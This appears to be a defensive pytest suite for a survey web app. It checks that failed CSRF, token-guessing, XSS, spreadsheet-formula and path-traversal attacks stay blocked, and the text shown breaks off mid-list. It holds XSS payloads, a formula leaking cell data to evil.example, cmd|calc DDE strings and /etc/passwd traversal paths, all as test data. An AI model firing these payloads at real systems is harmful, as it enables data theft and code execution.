"""The attacks of issue 12 that held: each kept here as a real attack, from the attacker's side.

The attacker of issue 12 tried 33 attacks; 12 broke and are kept in the other files of this folder.
These are the 21 that held, in 11 groups: they must go on holding.

1. CSRF on personal and open links (no token, another draft's, another session's or site's).
2. Guessing tokens: the rate limit, near misses, the stored hash used as a link.
3. Single-use personal links: no second response by a replayed step.
4. Script in every web page (survey texts, event title, answers, posted field names, the Host
   header) and in the venue QR code.
5. Script in the HTML report and its inline SVG charts.
6. Path traversal through ids and output names on the command line, and through web paths.
7. Spreadsheet formulas in the CSV and XLSX exports and the report's CSV.
8. YAML alias bombs and Python tags in survey files.
9. SQL through command-line arguments and roster fields.
10. Security headers on every web response.
11. Tokens in the server's log.

Everything goes through the real thing: the web app behind a Starlette test client, or uvicorn on
loopback where a raw path or a real log is needed; the command line through ``helpers.run``; real
SQLite files compared before and after.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import logging
import os
import socket
import sqlite3
import sys
import threading
import time
import uuid
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from helpers import EVENT, dump, open_engine, query, run
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "plugins" / "feedback_web"))
from web_helpers import (
    SHIPPED_ANSWERS,
    SHIPPED_PAGES,
    Page,
    Visitor,
    Web,
    free_port,
    live_server,
    parse,
    post_raw,
    web_site,
)

import feedback_web.server
from feedback.cli import cli
from feedback.engine import Engine
from feedback.invitations import Invitations, hash_token, new_token, utcnow
from feedback.questions import strip

OPEN = "/e/hague-2011"


@pytest.fixture
def web(project: Path, make_engine: Callable[..., Engine]) -> Iterator[Web]:
    """The web form on a project with the event hague-2011, its open link on."""
    with web_site(project, make_engine) as site:
        yield site


# -- what an attacker looks for in a page ------------------------------------------------------

#: the only scripts the web form's pages load
APP_SCRIPTS = {
    "/static/conditions.js",
    "/static/answers.js",
    "/static/types.js",
    "/static/form.js",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "foreignobject"}
RAW = ("<script>alert", "<img src=x", "<svg onload", "' onmouseover='alert")


class Elements(HTMLParser):
    """Every start tag of a document with its attributes, and the text of each script element."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "script":
            self._in_script = True
            self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data


def elements(html: str) -> Elements:
    reader = Elements()
    reader.feed(html)
    reader.close()
    return reader


def injected(html: str) -> list[str]:
    """What of ``html`` a payload could have made: an element that runs script or loads a page,
    an event handler, a ``javascript:`` URL, a script the app does not ship, a raw payload."""
    found = []
    for tag, attrs in elements(html).elements:
        found += [f"<{tag} {name}>" for name in attrs if name.startswith("on")]
        for name in URL_ATTRIBUTES & attrs.keys():
            value = "".join((attrs[name] or "").split()).lower()
            if value.startswith(("javascript:", "vbscript:", "data:text/html")):
                found.append(f"<{tag} {name}={attrs[name]!r}>")
        if tag in NEVER:
            found.append(f"<{tag}>")
        own_script = attrs.get("src") in APP_SCRIPTS or attrs.get("type") == "application/json"
        if tag == "script" and not own_script:
            found.append(f"<script {attrs}>")
        if tag == "img" and not str(attrs.get("src")).endswith("/qr.svg"):
            found.append(f"<img {attrs}>")
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
    found += [f"raw {raw!r}" for raw in RAW if raw in html]
    return found


# -- 1. CSRF -------------------------------------------------------------------------------------


def test_csrf_a_post_to_a_personal_link_without_its_own_token_is_refused(
    web: Web, tmp_path: Path, close_after: Callable[[Engine], Engine]
) -> None:
    """Attack: make a participant's browser post a step of their personal link (a form on another
    site) with no CSRF token, an empty or made-up one, the token of another participant's page,
    the token of an open-link page, or the token another feedback site (its own database, its
    own secret) gives its page of the same draft key. Must hold: each is refused (403, the
    "please try again" page) and nothing is stored; the same post with the page's own token is
    taken."""
    _, token = web.invite("Ann Example")  # invitation 1: the draft key i:1
    _, other_token = web.invite("Bob Example")
    other_page = web.visitor(f"/s/{other_token}").open()
    open_page = web.visitor(OPEN).open()
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "surveys").mkdir(parents=True)
    with web_site(elsewhere, lambda: close_after(open_engine(elsewhere))) as other_site:
        _, there = other_site.invite("Ann Example")  # invitation 1 there too
        same_key_there = other_site.visitor(f"/s/{there}").open()
    victim = web.visitor(f"/s/{token}")
    own = victim.open()
    assert own.hidden["csrf"] != same_key_there.hidden["csrf"]
    before = web.dump()

    forged = {
        "no token": None,
        "an empty token": "",
        "a made-up token": "A" * 43,
        "another participant's token": other_page.hidden["csrf"],
        "an open-link page's token": open_page.hidden["csrf"],
        "another site's token for the same draft key": same_key_there.hidden["csrf"],
    }
    for why, csrf in forged.items():
        fields = [("page", "0"), ("role", "mp"), ("country", "NL"), ("action", "next")]
        if csrf is not None:
            fields.append(("csrf", csrf))
        response = post_raw(victim.client, victim.path, fields, origin="https://evil.example")
        page = parse(response.text, response.status_code)
        assert (page.status, page.title) == (403, "Please try again"), why
    assert web.dump() == before  # no draft, no response

    page = victim.send(SHIPPED_PAGES[0])  # the participant's own page: taken
    assert page.title.startswith("What you learned")
    assert web.dump() != before


def test_csrf_a_post_to_an_open_link_from_another_session_is_refused(web: Web) -> None:
    """Attack: make a visitor's browser post a step of the event's open link with no token, the
    attacker's own page's token (the attacker's session, not the visitor's), a personal link's
    token, or with the attacker's token and no cookie at all (a cross-site form: the SameSite
    cookie is not sent). Must hold: each is refused (403) and nothing is stored."""
    _, token = web.invite()
    personal = web.visitor(f"/s/{token}").open()
    attacker = web.visitor(OPEN)
    attacker_page = attacker.open()
    victim = web.visitor(OPEN)
    victim.open()
    assert "feedback_draft" in victim.client.cookies
    stranger = web.client()  # no cookie of the open link
    before = web.dump()

    attempts = [
        (victim.client, None),
        (victim.client, attacker_page.hidden["csrf"]),
        (victim.client, personal.hidden["csrf"]),
        (stranger, attacker_page.hidden["csrf"]),
        (stranger, None),
    ]
    for client, csrf in attempts:
        fields = [("page", "0"), ("role", "ngo"), ("country", "NL"), ("action", "next")]
        if csrf is not None:
            fields.append(("csrf", csrf))
        fields.append(("response", attacker_page.hidden["response"]))
        response = post_raw(client, OPEN, fields, origin="https://evil.example")
        assert response.status_code == 403, (csrf, response.text[:200])
        assert parse(response.text).title == "Please try again"
    assert web.dump() == before
    assert attacker.send(SHIPPED_PAGES[0]).title.startswith("What you learned")  # its own: taken


# -- 2. guessing tokens --------------------------------------------------------------------------


def test_guessing_tokens_from_one_client_is_answered_429_after_the_limit(web: Web) -> None:
    """Attack: one client tries 50 made-up personal links (GET and POST). Must hold: the first 10
    (the default limit) are "not recognised" (404), every later one is 429 with Retry-After and no
    form; only failures are limited, so a real link from that address (a venue's router shared
    with the guesser) still goes through, as from another client; the block ends with the
    window."""
    _, token = web.invite()
    guesser = web.client(client=("203.0.113.66", 40000))
    statuses = []
    for n in range(50):
        path = f"/s/{new_token()}"
        if n % 2:
            response = post_raw(guesser, path, [("csrf", "x"), ("page", "0")])
        else:
            response = guesser.get(path)
        statuses.append(response.status_code)
    assert statuses == [404] * 10 + [429] * 40
    assert 1 <= int(response.headers["retry-after"]) <= 601
    assert parse(response.text).title == "Too many attempts"

    blocked = guesser.get(f"/s/{new_token()}")
    assert blocked.status_code == 429 and "csrf" not in blocked.text  # no form for the guesser
    assert guesser.get(f"/s/{token}").status_code == 200
    assert web.client(client=("198.51.100.8", 40000)).get(f"/s/{token}").status_code == 200
    web.clock.now += 600
    assert guesser.get(f"/s/{new_token()}").status_code == 404
    assert web.drafts() == [] and web.responses() == []


def _near_misses(token: str) -> dict[str, str]:
    def changed(i: int) -> str:
        return token[:i] + ("B" if token[i] == "A" else "A") + token[i + 1 :]

    return {
        "first character changed": changed(0),
        "a middle character changed": changed(21),
        "last character changed": changed(42),
        "case swapped": token.swapcase(),
        "one character short": token[:-1],
        "one character more": token + "A",
        "the stored SHA-256 as the link": hash_token(token),
        "the first 43 characters of the SHA-256": hash_token(token)[:43],
    }


def test_a_near_miss_token_or_the_stored_hash_is_not_accepted(web: Web) -> None:
    """Attack: a token one character off (changed, case-swapped, shortened, lengthened), and the
    SHA-256 the database keeps (as read from a stolen copy of ``feedback.db``) used as the link,
    by GET and by POST. Must hold: "not recognised" (404) every time, no form, nothing stored;
    the database holds the token's hash, never the token."""
    _, token = web.invite()
    real = web.visitor(f"/s/{token}").open()
    assert real.status == 200
    dumped = "\n".join(web.dump())
    assert hash_token(token) in dumped and token not in dumped  # looked up by hash
    before = web.dump()
    for n, (why, guess) in enumerate(_near_misses(token).items()):
        assert guess != token
        client = web.client(client=(f"192.0.2.{n + 1}", 40000))  # below each one's limit
        got = client.get(f"/s/{guess}")
        assert (got.status_code, parse(got.text).title) == (404, "Link not recognised"), why
        assert 'name="csrf"' not in got.text
        fields = [("csrf", real.hidden["csrf"]), ("page", "0"), ("role", "mp"), ("action", "next")]
        assert post_raw(client, f"/s/{guess}", fields).status_code == 404, why
    assert web.dump() == before


# -- 3. single-use links -------------------------------------------------------------------------


def _complete(visitor: Visitor) -> tuple[list[tuple[str, str]], str | None]:
    """Answer the shipped survey on ``visitor``'s link: the fields of the final submit, and the
    open link's draft cookie it was sent with (dropped by the thank-you page)."""
    visitor.open()
    for fields in SHIPPED_PAGES[:-1]:
        visitor.send(fields)
    assert visitor.page is not None
    final = [*visitor.page.hidden.items(), *SHIPPED_PAGES[-1], ("action", "next")]
    cookie = visitor.client.cookies.get("feedback_draft")
    response = post_raw(visitor.client, visitor.path, final)
    assert parse(response.text).title == "Thank you"
    return final, cookie


def test_a_completed_personal_link_stores_no_second_response(web: Web) -> None:
    """Attack: after completing the survey, replay the final submit (same fields, same CSRF
    token), replay it with other answers, start again from the first page, and use a reminder's
    new link of the same invitation. Must hold: the link shows "Already completed", and exactly
    one response is stored, with the first answers; no draft is left behind."""
    invitation, token = web.invite()
    visitor = web.visitor(f"/s/{token}")
    final, _ = _complete(visitor)
    [first] = web.responses()
    before = web.dump()

    assert visitor.open().title == "Already completed"
    replays = [
        final,
        [(k, "1" if k == "usefulness" else v) for k, v in final],
        [("csrf", dict(final)["csrf"]), *SHIPPED_PAGES[0], ("page", "0"), ("action", "next")],
    ]
    for fields in replays:
        response = post_raw(visitor.client, visitor.path, fields)
        assert (response.status_code, parse(response.text).title) == (200, "Already completed")

    reminder = Invitations(web.engine.store).issue_token(invitation)
    again = web.visitor(f"/s/{reminder}")
    assert again.open().title == "Already completed"
    response = post_raw(again.client, again.path, final)
    assert parse(response.text).title == "Already completed"
    after = web.dump()
    assert [line for line in after if line not in before] == [  # only the reminder's token
        line for line in after if hash_token(reminder) in line
    ]
    assert web.responses() == [first]
    assert json.loads(first["answers"]) == SHIPPED_ANSWERS
    assert web.drafts() == []


def test_a_replayed_open_link_submit_is_stored_once(web: Web) -> None:
    """Attack: replay the final submit of an open-link form with the draft cookie it was sent with
    (a double tap, or a script that keeps the cookie the thank-you page dropped), then without
    it. Must hold: one response; the replay with the cookie is thanked again, storing nothing;
    without it, the browser that stored the response (its cookie of the stored response) is
    thanked too (a reload or Back after submitting), any other is refused (403)."""
    visitor = web.visitor(OPEN)
    final, cookie = _complete(visitor)
    assert cookie and "feedback_draft" not in visitor.client.cookies
    for _ in range(3):
        response = post_raw(web.client(), OPEN, final, cookie=f"feedback_draft={cookie}")
        assert parse(response.text).title == "Thank you"
    again = post_raw(visitor.client, OPEN, final)
    assert (again.status_code, parse(again.text).title) == (200, "Thank you")
    assert post_raw(web.client(), OPEN, final).status_code == 403
    assert [r["channel"] for r in web.responses()] == ["open-link"]


# -- 4. script in every web page -----------------------------------------------------------------

P = (
    "<script>alert(1)</script> \"><img src=x onerror=alert(2)> ' onmouseover='alert(3) "
    "javascript:alert(4)"
)
SHORT = '"><img src=x onerror=alert(5)>'
LONG = "</textarea><script>alert(6)</script>\n</script><script>alert(7)</script>"
NUMBER = "<script>alert(8)</script>"
FIELD = '"><script>alert(9)</script>'
HOSTILE_HOST = "evil.example\"><script>alert('host')</script>"
XSS_SURVEY = {
    "id": "xss",
    "title": f"Title {P}",
    "description": f"About {P}",
    "languages": ["en"],
    "anonymous": True,
    "thank_you": f"Thanks {P}",
    "sections": [
        {
            "title": f"First {P}",
            "intro": f"Intro {P}",
            "questions": [
                {
                    "id": "pick",
                    "type": "single_choice",
                    "label": f"Pick {P}",
                    "help": f"Help {P}",
                    "required": True,
                    "choices": [{"id": "one", "label": f"One {P}"}, {"id": "two", "label": P}],
                },
                {"id": "short", "type": "text", "label": f"Short {P}"},
                {"id": "long_text", "type": "text", "long": True, "label": f"Long {P}"},
            ],
        },
        {
            "title": f"Second {P}",
            "questions": [
                {
                    "id": "count",
                    "type": "number",
                    "min": 0,
                    "max": 5,
                    "label": f"Count {P}",
                    "unit": f"units {P}",
                },
            ],
        },
    ],
}


@pytest.fixture
def xss_web(web: Web, monkeypatch: pytest.MonkeyPatch) -> Web:
    """The site with the survey ``xss`` (a payload in every text) as its default, the event's
    title and city payloads, one open-link answer per address, a short busy timeout."""
    monkeypatch.setenv("FEEDBACK_DEFAULT_SURVEY", "xss")
    monkeypatch.setenv("FEEDBACK_WEB__OPEN_LINK_ADDRESS_LIMIT", "1")
    monkeypatch.setenv("FEEDBACK_BUSY_TIMEOUT", "0.2")
    (web.project / "surveys" / "xss.json").write_text(json.dumps(XSS_SURVEY), encoding="utf-8")
    web.engine.store.upsert_event(
        {**EVENT, "title": f"Seminar {P}", "city": f"City {P}", "open_link": 1}
    )
    return web


def safe(page: Page, status: int = 200) -> Page:
    assert page.status == status, page
    assert injected(page.html) == [], page.title
    return page


def test_script_in_survey_texts_event_and_answers_is_text_on_every_form_page(
    xss_web: Web,
) -> None:
    """Attack: every text of a survey, the event's title and city, and the participant's answers
    (text fields, a number field, a text area closed early) hold ``<script>``, an attribute break
    out (``"><img onerror>``, ``' onmouseover='``) and a ``javascript:`` URL, on a personal link
    and on the open link: the first page, the page of problems, the next page (earlier answers as
    JSON in the page), the saved page, the thank-you and completed pages. Must hold: no element,
    handler or URL comes from the data on any page; the texts are shown as written."""
    web = xss_web
    assert len(injected(f"<p>{P}</p>")) >= 3  # the payloads, unescaped, would be found
    _, token = web.invite(survey="xss")
    for path in (f"/s/{token}", OPEN):
        visitor = web.visitor(path)
        page = safe(visitor.open())
        assert page.h1 == f"Title {P}" and f"Seminar {P} · City {P}" in page.words()
        assert f"First {P}" in page.words() and f"One {P}" in page.words()

        page = safe(visitor.send([("short", SHORT), ("long_text", LONG)]))  # no choice: problems
        assert page.errors == {"pick": "Please answer this question."}
        assert (page.value_of("short"), page.value_of("long_text")) == (SHORT, LONG)
        assert f"Pick {P}" in page.words()
        assert "Question 1: Please answer this question." in page.words()  # the summary

        page = safe(visitor.send([("pick", "one")]))
        [earlier] = [s for s in elements(page.html).scripts if s.strip()]
        assert "<" not in earlier  # no way out of the JSON's script element
        assert json.loads(earlier) == {"pick": "one", "short": SHORT, "long_text": LONG}

        page = safe(visitor.send([("count", NUMBER)]))
        assert page.errors == {"count": "Please type a number."}
        assert page.value_of("count") == NUMBER
        assert safe(visitor.send([("count", NUMBER)], action="save")).title.startswith("Your")
        visitor.open()
        page = safe(visitor.send([("count", "2")]))
        assert page.title == "Thank you" and f"Thanks {P}" in page.words()
    assert safe(web.visitor(f"/s/{token}").open()).title == "Already completed"
    stored = [json.loads(r["answers"]) for r in web.responses()]
    assert [(a["short"], a["long_text"]) for a in stored] == [(SHORT, LONG)] * 2


def test_script_on_message_pages_and_in_unknown_links_is_text(xss_web: Web) -> None:
    """Attack: a payload in the path of a personal link and of an open link (not found pages) and
    in a query, the refusal page of a forged post, the 429 page of a client that tried too many
    links, the page of an expired link (the event's title, a payload, at its top). Must hold: no
    element or handler from the data on any of them; nothing of the path is echoed."""
    web = xss_web
    _, token = web.invite(survey="xss")
    _, expired = web.invite("Cy Example", survey="xss", sent=utcnow() - dt.timedelta(days=40))
    client = web.client(client=("203.0.113.90", 40000))
    pages = {
        "unknown personal link": client.get("/s/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
        "unknown event": client.get("/e/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
        "unknown venue page": client.get("/e/%3Cimg%20src=x%20onerror=alert(1)%3E/qr"),
        "forged post": post_raw(client, f"/s/{token}", [("csrf", FIELD), ("short", SHORT)]),
        "expired link": client.get(f"/s/{expired}?lang=%3Cscript%3Ealert(1)%3C/script%3E"),
    }
    for _ in range(10):
        client.get(f"/s/{new_token()}")
    pages["too many"] = client.get(f"/s/{new_token()}?lang=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
    statuses = {name: r.status_code for name, r in pages.items()}
    assert statuses == {
        "unknown personal link": 404,
        "unknown event": 404,
        "unknown venue page": 404,
        "forged post": 403,
        "expired link": 410,
        "too many": 429,
    }
    for name, response in pages.items():
        assert injected(response.text) == [], name
        assert "onerror=alert(1)" not in parse(response.text).words(), name  # not echoed
    assert f"Seminar {P}" in parse(pages["expired link"].text).words()


def test_script_in_the_venue_page_and_its_qr_code_is_text(xss_web: Web) -> None:
    """Attack: the event's title is a payload, and the request's Host header (which makes the
    venue link when no base URL is set) holds one too, sent raw to uvicorn. Must hold: the venue
    page and the QR code SVG (a document of its own, drawn by the browser) hold no element or
    handler from the data; the SVG is well-formed, its title the link."""
    web = xss_web
    page = safe(parse(web.client().get(f"{OPEN}/qr").text))
    assert f"Seminar {P}" in page.words()
    with live_server(web.app) as base:
        status, body = _raw_get(base, f"{OPEN}/qr", host=HOSTILE_HOST)
        assert status == 200 and injected(body.decode()) == []
        for host in ("127.0.0.1", HOSTILE_HOST):
            status, svg = _raw_get(base, f"{OPEN}/qr.svg", host=host)
            assert status == 200
            root = ET.fromstring(svg)  # well-formed: nothing broke out of an attribute
            names = {element.tag.rsplit("}", 1)[-1] for element in root.iter()}
            assert names <= {"svg", "title", "path"}, names
            assert not [a for e in root.iter() for a in e.attrib if a.lower().startswith("on")]
            title = root.find("{http://www.w3.org/2000/svg}title")
            assert title is not None and title.text.endswith(OPEN)


def _raw_get(base: str, path: str, host: str = "x") -> tuple[int, bytes]:
    """A GET of ``path`` as written (no client normalises it), with ``host`` as the Host header,
    on a connection of its own: the status and the body."""
    address, port = base.removeprefix("http://").split(":")
    with socket.create_connection((address, int(port)), timeout=10) as sock:
        request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
        sock.sendall(request.encode())
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


@contextlib.contextmanager
def locked(db: Path) -> Iterator[None]:
    """Another connection holding ``BEGIN EXCLUSIVE`` on ``db``: no write gets through."""
    holder = sqlite3.connect(db, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        yield
    finally:
        holder.execute("ROLLBACK")
        holder.close()


def test_script_in_posted_fields_on_the_pages_that_keep_answers_is_text(xss_web: Web) -> None:
    """Attack: post fields whose names, values and pressed button are payloads when the step
    cannot be stored: the open link throttled (429) and the database locked (503). Those pages
    hold every posted field to send it again. Must hold: no element or handler from the data;
    each field comes back as the same name and value, as data."""
    web = xss_web
    first = web.visitor(OPEN, client=("198.51.100.20", 40000))
    first.open()
    first.send([("pick", "one")])
    assert first.send([("count", "1")]).title == "Thank you"  # the address's one answer

    throttled = web.visitor(OPEN, client=("198.51.100.20", 40001))
    throttled.open()
    throttled.send([("pick", "two"), ("short", SHORT)])
    page = safe(throttled.send([("count", "2"), (FIELD, LONG)]), 429)
    assert page.title == "Please try again later"
    assert (FIELD, LONG) in [(f.name, f.value) for f in page.fields]

    _, token = web.invite(survey="xss")
    visitor = web.visitor(f"/s/{token}")
    visitor.open()
    with locked(web.db):
        page = safe(
            visitor.send([("pick", "one"), ("short", SHORT), (FIELD, LONG)], action=FIELD), 503
        )
    assert page.title == "Your answers are not saved yet"
    hidden = [(f.name, f.value) for f in page.fields]
    assert (FIELD, LONG) in hidden and ("short", SHORT) in hidden
    assert [b.value for b in page.buttons] == [FIELD]
    assert len(web.responses()) == 1


# -- 5. script in the HTML report ----------------------------------------------------------------

COMMENTS = [
    "<script>alert('comment')</script>",
    "\"><img src=x onerror=alert('comment')>",
    "</blockquote><svg onload=alert('comment')><foreignObject>",
    "javascript:alert('comment')",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EVENT_TITLE = "Seminar <script>alert('event')</script> \"><img src=x onerror=alert('event')>"
REPORT_SURVEY = """\
id: hostile
title: "Feedback <script>alert('title')</script>"
languages: [en]
anonymous: true
scales:
  agree:
    points: [strongly_disagree, disagree, neutral, agree, strongly_agree]
    na: {id: dont_know, label: "Don't know"}
  know:
    points: [none, little, some, good]
questions:
  - id: role
    type: single_choice
    label: "Role <img src=x onerror=alert('role')>"
    choices:
      - {id: mp, label: MP, report_label: "=HYPERLINK(\\"http://evil.example\\",\\"MPs\\")"}
      - {id: ngo, label: NGO, report_label: "+cmd|' /C calc'!A0 <svg onload=alert('ngo')>"}
      - {id: other, label: Other, report_label: "@SUM(1+1) \\"><img src=x onerror=alert(1)>"}
  - id: support
    type: likert
    scale: agree
    measures: rapporteur_support
    label: "Support <script>alert('label')</script>"
    report_label: "=1+1 <script>alert('support')</script>"
  - id: change
    type: then_now
    scale: know
    measures: awareness
    label: Knowledge
    report_label: "-2+3 </title><script>alert('change')</script>"
  - id: recommend
    type: rating
    min: 0
    max: 10
    measures: satisfaction
    label: Recommend?
    report_label: "javascript:alert('recommend')"
  - id: improvements
    type: text
    long: true
    label: What should change?
"""


def _hostile_responses(event: str = "hague-2011") -> list[dict[str, Any]]:
    """14 responses to the survey ``hostile``: every comment and formula among the answers."""
    roles = ["mp"] * 6 + ["ngo"] * 6 + ["other"] * 2
    texts = COMMENTS + FORMULAS
    return [
        {
            "id": str(uuid.uuid4()),
            "survey": "hostile",
            "event": event,
            "channel": "kiosk",
            "language": "en",
            "submitted": "2011-01-26",
            "answers": {
                "role": role,
                "support": ["agree", "strongly_agree", "neutral", "disagree"][n % 4],
                "change": {"then": "none", "now": ["some", "good", "little"][n % 3]},
                "recommend": n % 11,
                "improvements": texts[n % len(texts)],
            },
        }
        for n, role in enumerate(roles)
    ]


@pytest.fixture(scope="module")
def reported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with the survey ``hostile`` (payloads and formulas in its report labels), the
    event's title a payload, and 14 responses holding every comment and formula, imported
    through the command line; its HTML and CSV reports written as ``report.html``/``.csv``."""
    project = tmp_path_factory.mktemp("reported")
    (project / "surveys").mkdir()
    (project / "surveys" / "hostile.yaml").write_text(REPORT_SURVEY, encoding="utf-8")
    lines = "".join(json.dumps(r) + "\n" for r in _hostile_responses())
    (project / "answers.jsonl").write_text(lines, encoding="utf-8")
    for args in (
        ("event", "add", "hague-2011", "--title", EVENT_TITLE, "--city", "<b>City</b>"),
        ("responses", "import", str(project / "answers.jsonl")),
        ("report", "--event", "hague-2011", "-o", str(project / "report.html")),
        ("report", "--event", "hague-2011", "--format", "csv", "-o", str(project / "report.csv")),
    ):
        result = run(project, *args)
        assert result.exit_code == 0, result.output
    return project


def test_script_in_answers_labels_and_the_event_title_is_inert_in_the_html_report(
    reported: Path,
) -> None:
    """Attack: comments holding ``<script>``, an attribute break-out, a closing ``</blockquote>``
    with an ``<svg onload>``, a ``javascript:`` URL; an event title with HTML; survey labels with
    HTML that go into the charts' descriptions (``aria-label``, ``<title>``). Must hold: the
    report and its inline SVG charts hold no script, no event handler, no script URL, no
    foreignObject; its Content-Security-Policy allows no script at all; every text is shown as
    written."""
    html = (reported / "report.html").read_text(encoding="utf-8")
    assert injected(html) == []
    found = elements(html)
    assert found.scripts == []
    [csp] = [
        a["content"]
        for t, a in found.elements
        if t == "meta" and (a.get("http-equiv") or "").lower() == "content-security-policy"
    ]
    assert "default-src 'none'" in csp and "script-src" not in csp and "unsafe-eval" not in csp
    charts = [a for t, a in found.elements if t == "svg"]
    assert charts  # the charts are there to attack
    assert any("-2+3 </title><script>alert('change')</script>" in a["aria-label"] for a in charts)

    text = " ".join(parse(html).text.split())
    assert EVENT_TITLE in text
    for comment in COMMENTS:
        assert comment in text  # shown as written, not run


# -- 6. path traversal ---------------------------------------------------------------------------

TRAVERSALS = ["../../tmp/x", "..", "a/../../b", "/etc/passwd", "..\\..\\x", "%2e%2e%2fx"]


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() and not p.name.startswith("feedback.db")}


def test_traversal_in_event_and_survey_ids_on_the_command_line_is_refused(
    event_project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack: ids like ``../../tmp/x`` as the event of ``event add``, ``report`` and ``offline
    form`` (whose default file names are made from the id; the folders ``report-..`` and
    ``offline-form-..`` planted so such a name would resolve), and as the survey of ``offline
    form`` and ``responses export`` (a valid survey planted outside the project), and as the id
    inside a survey file. Must hold: each is refused with exit 2, the database is unchanged and
    no file is written anywhere."""
    project = event_project
    (project / "surveys").mkdir()
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    shipped = (Path(__file__).resolve().parents[2] / "surveys" / "post-seminar.yaml").read_text()
    (outside / "evil.yaml").write_text(shipped.replace("id: post-seminar", "id: evil", 1))
    work = project / "work"
    for planted in ("report-..", "offline-form-.."):
        (work / planted).mkdir(parents=True)
    monkeypatch.chdir(work)
    db = project / "feedback.db"
    before, files = dump(db), _files(tmp_path) | _files(outside)
    evil = os.path.relpath(outside / "evil", project / "surveys")

    attempts = [("event", "add", bad, "--title", "T") for bad in TRAVERSALS]
    attempts += [("report", "--event", bad) for bad in TRAVERSALS]
    attempts += [("offline", "form", "--event", bad) for bad in TRAVERSALS]
    attempts += [
        ("offline", "form", "--event", "hague-2011", "--survey", evil),
        ("offline", "form", "--event", "hague-2011", "--survey", str(outside / "evil")),
        ("responses", "export", "--survey", evil, "-o", str(work / "out.csv")),
    ]
    for args in attempts:
        result = run(project, *args)
        assert result.exit_code == 2, (args, result.output)
    (project / "surveys" / "bad.yaml").write_text(
        shipped.replace("id: post-seminar", "id: ../../x")
    )
    result = run(project, "survey", "validate", str(project / "surveys" / "bad.yaml"))
    assert result.exit_code == 2 and "expected an id" in result.output, result.output
    (project / "surveys" / "bad.yaml").unlink()
    assert dump(db) == before
    assert _files(tmp_path) | _files(outside) == files


def test_a_stored_event_id_with_dot_dots_does_not_lead_a_file_out_of_the_folder(
    event_project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack: a database that already holds an event whose id climbs out of the folder
    (``../../../outside/escaped``: written by another tool or by hand, as an older database may
    hold what today's checks refuse), handed over with the folders ``report-..`` and
    ``offline-form-..``; the operator runs ``report --event ID`` and ``offline form --event ID``
    without ``-o``. Must hold: the default file name made from the id does not leave the working
    folder (refused, or written inside it)."""
    project = event_project
    lines = "".join(json.dumps(r) + "\n" for r in _hostile_responses())
    (project / "surveys").mkdir()
    (project / "surveys" / "hostile.yaml").write_text(REPORT_SURVEY, encoding="utf-8")
    (project / "answers.jsonl").write_text(lines, encoding="utf-8")
    assert run(project, "responses", "import", str(project / "answers.jsonl")).exit_code == 0
    sneaky = "../../../outside/escaped"
    conn = sqlite3.connect(project / "feedback.db")
    with conn:
        conn.execute("INSERT INTO events (id, title) VALUES (?, 'Planted')", [sneaky])
        conn.execute(
            "INSERT INTO responses (id, event, survey, survey_version, channel, language,"
            " submitted, answers, content_hash)"
            " SELECT id || 'x', ?, survey, survey_version, channel, language,"
            " submitted, answers, content_hash || 'x' FROM responses",
            [sneaky],
        )
    conn.close()
    work = project / "work"
    for planted in ("report-..", "offline-form-.."):
        (work / planted).mkdir(parents=True)
    outside = project / "outside"
    outside.mkdir()
    monkeypatch.chdir(work)
    escaped = {}
    for args in (("report", "--event", sneaky), ("offline", "form", "--event", sneaky)):
        result = run(project, *args)
        written = sorted(outside.iterdir())
        if written:
            escaped[" ".join(args[:-2])] = (result.exit_code, [p.name for p in written])
        for path in written:
            path.unlink()
    assert escaped == {}, f"written to {outside}, outside the working folder {work}"


def test_traversal_in_web_paths_reaches_no_file(web: Web) -> None:
    """Attack: paths that climb out of ``/static/`` or the routes to the database and the app's
    source, literally (``/static/../``, sent raw to uvicorn), percent-encoded (``%2e%2e``,
    ``%2f``, ``%5c``, double-encoded) or through the routes (``/e/..%2f..%2ffeedback.db``).
    Must hold: not found (or a bad request), and no byte of the database or the source sent."""
    db = web.db
    assert db.read_bytes().startswith(b"SQLite format 3")
    up = "../" * 12
    paths = [
        "/static/../app.py",
        "/static/../../feedback_web/app.py",
        "/static/" + up + str(db).lstrip("/"),
        "/static/%2e%2e/app.py",
        "/static/%2e%2e%2fapp.py",
        "/static/..%2fapp.py",
        "/static/..%5capp.py",
        "/static/%252e%252e/app.py",
        "/static/....//app.py",
        "/static/form.css/../../app.py",
        "/static//" + str(db).lstrip("/"),
        "/static/" + "%2e%2e%2f" * 12 + str(db).lstrip("/").replace("/", "%2f"),
